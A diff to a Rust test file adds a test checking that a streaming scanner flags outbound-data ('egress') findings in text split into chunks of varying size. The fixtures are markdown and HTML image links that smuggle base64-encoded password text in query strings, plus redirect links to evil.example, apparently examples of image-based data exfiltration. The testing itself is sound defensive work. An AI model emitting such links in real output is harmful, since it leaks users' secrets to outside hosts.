@@ -280,6 +280,28 @@ fn hosts_on_the_list_pass_however_the_text_is_cut_and_nothing_else_does() {
     }
 }
 
+#[test]
+fn what_a_listed_host_is_told_or_leads_to_is_flagged() {
+    let hosts = listed();
+    for size in [1, 5, 1000] {
+        for (told, least) in [
+            ("![x](https://cdn.example.org/?q=VGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI)", 50),
+            ("<img src=\"https://cdn.example.org/p?d=VGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI&w=1\">", 50),
+            ("![x][a]\n\n[a]: https://cdn.example.org/?q=VGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI\n", 50),
+            ("![x](https://cdn.example.org/r?url=https%3A%2F%2Fevil.example%2Fa.png)", 75),
+            ("[x](https://cdn.example.org/r?url=evil.example/a)", 75),
+        ] {
+            let cuts: Vec<usize> = (0..told.len()).step_by(size).collect();
+            let findings = checked(told, &stream(chunks(told, &cuts), &hosts));
+            let egress = findings.iter().filter(|f| Category::known("egress").covers(&f.category));
+            assert!(
+                egress.map(|f| f.score).max() >= Some(Score::percent(least)),
+                "{told} in pieces of {size}"
+            );
+        }
+    }
+}
+
 /// What begins and does not end is let go within the stated reach.
 #[test]
 fn nothing_is_held_without_an_end() {
